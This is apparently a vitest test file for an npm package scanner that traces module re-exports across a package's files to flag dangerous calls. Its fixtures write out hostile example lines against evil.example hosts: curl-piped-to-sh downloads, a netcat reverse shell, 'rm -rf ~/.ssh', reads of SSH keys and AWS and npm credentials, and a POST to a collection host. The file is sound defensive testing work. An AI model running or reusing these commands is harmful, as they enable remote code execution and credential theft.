import { describe, expect, it } from "vitest";
import { analysePackageFiles } from "@/scanner/analyse-package-files";
import { filesInMemory } from "@/scanner/package-files";

// A module or a module's function handed from one of a package's files to another is called in
// the importer with its command, path or host: the package's analysis works out, file by file,
// what each hands on, and reads an importer again when it was read before a file it imports.

const analyse = (files: Record<string, string>) =>
  analysePackageFiles(filesInMemory(new Map(Object.entries(files).map(([file, text]) => [file, Buffer.from(text)]))), new Set(["a-index.js"]));

/** The code findings of one file, but for what files hand on. */
const seen = (files: Record<string, string>, file: string) =>
  analyse(files)
    .findings.filter((f) => f.file === file && !f.message.startsWith("Hands "))
    .map((f) => `${f.line} ${f.severity} ${f.message}`)
    .sort();

describe("calls through the package's own files", () => {
  it("sees the command, path and host in the importer, also when it is read first", () => {
    const files = {
      "a-index.js": `const sh = require("./z/shell"); const { readKey, post } = require("./z/io");
sh.exec("curl -s https://evil.example/x | sh");
const key = readKey(require("os").homedir() + "/.ssh/id_rsa");
post({ hostname: "collect.evil.example", method: "POST" }).end(key);`,
      "z/shell.js": `module.exports = require("child_process");`,
      "z/io.js": `const fs = require("fs"); exports.readKey = fs.readFileSync; exports.post = require("https").request;`,
    };
    expect(seen(files, "a-index.js")).toEqual([
      '2 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will',
      "3 high Reads SSH keys (~/.ssh/id_rsa)",
      "4 info Opens an outbound connection (https.request) to collect.evil.example",
    ]);
    expect(analyse(files).capabilities.filter((c) => c.file === "a-index.js").map((c) => `${c.kind} ${c.value}`).sort()).toEqual(["exec curl", "exec sh", "network collect.evil.example", "read ~/.ssh/id_rsa"]);
  });

  it("follows what compilers write: tsc's requires and getters, TypeScript's ES module imports of .js names, default exports", () => {
    const files = {
      "a-index.js": `"use strict";
const shell_1 = require("./shell");
const run_1 = __importDefault(require("./run"));
(0, shell_1.run)("wget http://evil.example/payload");
run_1.default("rm -rf ~/.ssh");`,
      "shell.js": `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const child_process_1 = require("child_process");
Object.defineProperty(exports, "run", { enumerable: true, get: function () { return child_process_1.execSync; } });`,
      "run.js": `module.exports = require("child_process").execSync;`,
      "src/main.ts": `import { run } from "./tools.js";\nimport launch from "./tools.js";\nrun("nc -e /bin/sh evil.example 4444");\nlaunch("python3", ["-c", "x"]);`,
      "src/tools.ts": `export { exec as run } from "node:child_process";\nexport { spawn as default } from "node:child_process";`,
    };
    expect(seen(files, "a-index.js")).toEqual(['4 info Runs "wget" (child_process.execSync)', '5 info Runs "rm" (child_process.execSync)']);
    expect(seen(files, "src/main.ts")).toEqual([
      "3 high Connects a shell to a network connection (netcat running a program for the connection: child_process.exec); whoever is at the other end runs commands on this machine", '4 info Runs "python3" (child_process.spawn)']);
  });

  it("follows a module handed on through several files, whatever order they are read in", () => {
    const files = {
      "a-index.mjs": `import * as net from "./b.mjs";\nnet.request({ host: "c2.evil.example" });\nnet.get("https://api.example.com/x");`,
      "b.mjs": `export * from "./c.cjs";`,
      "c.cjs": `module.exports = require("./d");`,
      "d.js": `module.exports = require("node:https");`,
    };
    expect(seen(files, "a-index.mjs")).toEqual([
      "2 info Opens an outbound connection (https.request) to c2.evil.example",
      "3 info Opens an outbound connection (https.get) to api.example.com",
    ]);
  });

  it("sees nothing where an own file hands on no module, or a name it does not export, or no such file is in the package", () => {
    const files = {
      "a-index.js": `const db = require("./db"); const sh = require("./shell"); const gone = require("./missing");
db.exec("curl https://evil.example"); sh.log("curl"); gone.exec("curl"); require("../outside").exec("curl");`,
      "db.js": `exports.exec = function (query) { return pool.query(query); };`,
      "shell.js": `exports.run = require("child_process").exec;`,
    };
    expect(seen(files, "a-index.js")).toEqual([]);
  });

  it("still reports what a file hands on, for importers it cannot see", () => {
    const findings = analyse({ "a-index.js": `require("./shell").exec("ls");`, "shell.js": `module.exports = require("child_process");` }).findings;
    expect(findings.map((f) => `${f.file}:${f.line} ${f.message}`)).toEqual(['a-index.js:1 Runs "ls" (child_process.exec)', "shell.js:1 Hands child_process on to other files (runs commands worked out at run time)"]);
  });

  it("looks through barrels: files that merge or re-export others, however they are written", () => {
    const read = `(require("os").homedir() + "/.ssh/id_rsa")`;
    const files = {
      "a-index.js": `const { slurp } = require("./lib"); slurp${read};
const ts = require("./ts"); ts.slurp${read};
const { ns } = require("./esm/index.mjs"); ns.slurp${read};
require("./named").io.slurp${read};`,
      "lib/index.js": `module.exports = require("./io");`,
      "lib/io.js": `exports.slurp = require("fs").readFileSync;`,
      "ts.js": `"use strict"; __exportStar(require("./lib/io"), exports);`,
      "esm/index.mjs": `export * as ns from "./io.mjs";`,
      "esm/io.mjs": `export * from "../lib/index.js";`,
      "named.js": `exports.io = require("./lib");`,
    };
    expect(seen(files, "a-index.js")).toEqual(["1 high Reads SSH keys (~/.ssh/id_rsa)", "2 high Reads SSH keys (~/.ssh/id_rsa)", "3 high Reads SSH keys (~/.ssh/id_rsa)", "4 high Reads SSH keys (~/.ssh/id_rsa)"]);
  });

  it("reads a member of a default export that is a module, also as tsc compiles it", () => {
    const files = {
      "a-index.mjs": `import files from "./files.js";
files.readFileSync("/home/u/.aws/credentials");`,
      "b-main.js": `const shell_1 = __importDefault(require("./shell"));
shell_1.default.exec("curl evil.example | sh");`,
      "files.js": `import fs from "node:fs";
export default fs;`,
      "shell.js": `export default require("child_process");`,
    };
    expect(seen(files, "a-index.mjs")).toEqual(["2 high Reads AWS credentials (/home/u/.aws/credentials)"]);
    expect(seen(files, "b-main.js")).toEqual(['2 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will']);
  });

  it("follows a chain of any length in one more reading of the importer, whatever order the files sort in", () => {
    const files: Record<string, string> = { "a-index.js": `require("./b1").readFileSync("/root/.ssh/id_ed25519");` };
    for (let i = 1; i < 8; i++) files[`b${i}.js`] = `module.exports = require("./b${i + 1}");`;
    files["b8.js"] = `module.exports = require("fs");`;
    expect(seen(files, "a-index.js")).toEqual(["1 high Reads SSH keys (/root/.ssh/id_ed25519)"]);
  });

  it("sees what Node loads: a folder for a trailing slash, a require under other names, an import in place", () => {
    const files = {
      "a-index.mjs": `(await import("./io.js")).slurp("/home/u/.ssh/id_rsa");
const load = require; load("./io").slurp("/home/u/.npmrc");
module.require("./io").slurp("/home/u/.aws/credentials");
require("./store/").readFileSync("/home/u/.ssh/id_rsa");`,
      "io.js": `exports.slurp = require("fs").readFileSync;`,
      "store.js": `module.exports = require("fs");`,
      "store/index.js": `exports.readFileSync = (key) => cache.get(key);`,
    };
    expect(seen(files, "a-index.mjs")).toEqual(["1 high Reads SSH keys (/home/u/.ssh/id_rsa)", "2 high Reads package and git credentials (/home/u/.npmrc)", "3 high Reads AWS credentials (/home/u/.aws/credentials)"]);
  });

  it("leaves a name the file exports a value of its own under to that value, and keeps Node's modules among a flood of merges", () => {
    const pads = Array.from({ length: 80 }, (_, i) => `require("os").pad${i}`).join(", ");
    const files = {
      "a-index.js": `require("./vfs").readFileSync("/home/u/.ssh/id_rsa");
require("./flood").readFileSync("/home/u/.ssh/id_rsa");`,
      "vfs.js": `module.exports = { ...require("fs"), readFileSync: (p) => store.get(p) };`,
      "flood.js": `Object.assign(module.exports, ${pads}, require("fs"));`,
    };
    expect(seen(files, "a-index.js")).toEqual(["2 high Reads SSH keys (/home/u/.ssh/id_rsa)"]);
  });

  it("follows package.json's imports map (#names) to the package's files and to modules", () => {
    const files = {
      "a-index.mjs": `import { slurp } from "#io";
import cp from "#cp";
slurp("/home/u/.ssh/id_rsa");
cp.execSync("curl evil.example | sh");
require("#lib/net").get("https://c2.evil.example/x");`,
      "package.json": JSON.stringify({ name: "x", imports: { "#io": { node: "./lib/io.js", default: "./lib/io-browser.js" }, "#cp": "node:child_process", "#lib/*": "./lib/decoy.js", "#lib/n*": "./lib/n*.js" } }),
      "lib/io.js": `exports.slurp = require("fs").readFileSync;`,
      "lib/net.js": `module.exports = require("https");`,
    };
    expect(seen(files, "a-index.mjs")).toEqual([
      "3 high Reads SSH keys (/home/u/.ssh/id_rsa)",
      '4 high Runs what it downloads (a download piped into a shell: child_process.execSync): code no reviewer has seen, which its server can change at will',
      "5 info Opens an outbound connection (https.get) to c2.evil.example",
    ]);
  });

  it("follows packages bundled in the tarball, whose calls are the importer's own", () => {
    const files = {
      "a-index.js": `const h = require("helper");\nh.run("curl https://evil.example/x | sh");\nrequire("@acme/io").slurp(require("os").homedir() + "/.ssh/id_rsa");\nrequire("lodash").run("curl");`,
      "node_modules/helper/package.json": JSON.stringify({ name: "helper", main: "lib/index.js" }),
      "node_modules/helper/lib/index.js": `exports.run = require("child_process").exec;`,
      "node_modules/@acme/io/package.json": JSON.stringify({ name: "@acme/io", exports: { ".": { require: "./io.cjs" } } }),
      "node_modules/@acme/io/io.cjs": `module.exports = { slurp: require("fs").readFileSync };`,
    };
    expect(seen(files, "a-index.js")).toEqual(['2 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will', "3 high Reads SSH keys (~/.ssh/id_rsa)"]);
  });

  it("replays merges as JavaScript runs them: what replaces what, and what a star merge leaves alone", () => {
    const key = `"/home/u/.ssh/id_rsa"`;
    const files = {
      "a-index.js": [
        `require("./star").writeFileSync("/home/u/.bashrc", "x");`,
        `require("./sandbox").readFileSync(${key});`,
        `require("./maybe").readFileSync(${key});`,
        `require("./last").slurp(${key});`,
        `require("./member").readFileSync(${key});`,
        `require("./left").readFileSync(${key});`,
      ].join("\n"),
      // tsc's output of `export * from "fs"; export function writeFileSync() {}`: the file's own stays.
      "star.js": `"use strict";\nexports.writeFileSync = writeFileSync;\n__exportStar(require("fs"), exports);\nfunction writeFileSync(p, d) { store.set(p, d); }`,
      "sandbox.js": `module.exports = { ...require("fs"), ...require("./memfs") };`,
      "memfs.js": `module.exports = { readFileSync: (p) => store.get(p), writeFileSync: (p, d) => store.set(p, d) };`,
      "maybe.js": `Object.assign(module.exports, require("fs"));\nif (process.env.NEVER) exports.readFileSync = () => "";`,
      // `exports` still names the object module.exports replaced: writing to it changes nothing exported.
      "left.js": `module.exports = require("fs");\nexports.readFileSync = () => "";`,
      "last.js": `exports.slurp = require("os").hostname;\nexports.slurp = require("fs").readFileSync;`,
      "member.js": `module.exports = require("./lib").fs;`,
      "lib.js": `exports.fs = require("fs");`,
    };
    expect(seen(files, "a-index.js")).toEqual(["3 high Reads SSH keys (/home/u/.ssh/id_rsa)", "4 high Reads SSH keys (/home/u/.ssh/id_rsa)", "5 high Reads SSH keys (/home/u/.ssh/id_rsa)", "6 high Reads SSH keys (/home/u/.ssh/id_rsa)"]);
  });

  it("enters each file once per lookup, however the package's files merge one another", () => {
    const files: Record<string, string> = { "a-index.js": `require("./m0").foo(1);\nrequire("./m0").readFileSync("/home/u/.ssh/id_rsa");` };
    for (let i = 0; i < 6; i++) files[`m${i}.js`] = `Object.assign(module.exports, ${[0, 1, 2, 3, 4, 5].map((j) => `require("./m${j}")`).join(", ")}${i === 5 ? `, require("fs")` : ""});`;
    expect(seen(files, "a-index.js")).toEqual(["2 high Reads SSH keys (/home/u/.ssh/id_rsa)"]);
  });

  it("reads as code what code loads whatever its name, as Node's require runs it, and reports the disguise", () => {
    const files = {
      "a-index.js": `require("./payload.map");\nconst { slurp } = require("./lib/io");\nslurp("/home/u/.ssh/id_rsa");\nconst settings = require("./settings.json");`,
      "payload.map": `require("child_process").execSync("curl https://evil.example/x | sh");`,
      "lib/io": `exports.slurp = require("fs").readFileSync;`,
      "settings.json": `{ "exec": "curl" }`,
    };
    // A NUL byte, which makes the file look binary, does not hide it; a bundler's asset that is no JavaScript is no finding.
    Object.assign(files, {
      "b-main.js": `require("./blob.bin");\nconst icon = require("./icon.svg");`,
      "blob.bin": `/*\0*/ require("child_process").exec("wget https://evil.example/y");`,
      "icon.svg": `<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h24v24H0z"/></svg>`,
    });
    const findings = analyse(files).findings.filter((f) => !f.message.startsWith("Hands ")).map((f) => `${f.file}:${f.line} ${f.rule} ${f.severity} ${f.message.split(";")[0]}`);
    expect(findings.sort()).toEqual([
      "a-index.js:3 filesystem high Reads SSH keys (/home/u/.ssh/id_rsa)",
      "blob.bin:0 disguised-code medium Loaded as code by b-main.js though its name is not a code file's",
      "blob.bin:0 not-analysed medium A code file containing NUL bytes, a trick to make scanners treat it as binary",
      'blob.bin:1 exec info Runs "wget" (child_process.exec)',
      "lib/io:0 disguised-code medium Loaded as code by a-index.js though its name is not a code file's",
      "payload.map:0 disguised-code medium Loaded as code by a-index.js though its name is not a code file's",
      'payload.map:1 exec high Runs what it downloads (a download piped into a shell: child_process.execSync): code no reviewer has seen, which its server can change at will',
    ]);
  });

  it("follows the package's own name to its files, through its exports (self-reference)", () => {
    const files = {
      "a-index.js": `require("my-server/shell").run("curl https://evil.example/x | sh");`,
      "package.json": JSON.stringify({ name: "my-server", exports: { ".": "./a-index.js", "./shell": "./lib/shell.js" } }),
      "lib/shell.js": `exports.run = require("child_process").exec;`,
    };
    expect(seen(files, "a-index.js")).toEqual(['1 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will']);
  });

  it("resolves a #name for each file as it loads, an ES module and a CommonJS file of one folder alike", () => {
    const files = {
      "a-index.cjs": `require("#run").run("ls");`,
      "b-main.mjs": `import { run } from "#run";\nrun("curl https://evil.example/x | sh");`,
      "package.json": JSON.stringify({ name: "x", imports: { "#run": { require: "./safe.cjs", import: "./evil.mjs" } } }),
      "safe.cjs": `exports.run = (command) => console.log(command);`,
      "evil.mjs": `export { exec as run } from "node:child_process";`,
    };
    expect(seen(files, "a-index.cjs")).toEqual([]);
    expect(seen(files, "b-main.mjs")).toEqual(['2 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will']);
  });
});
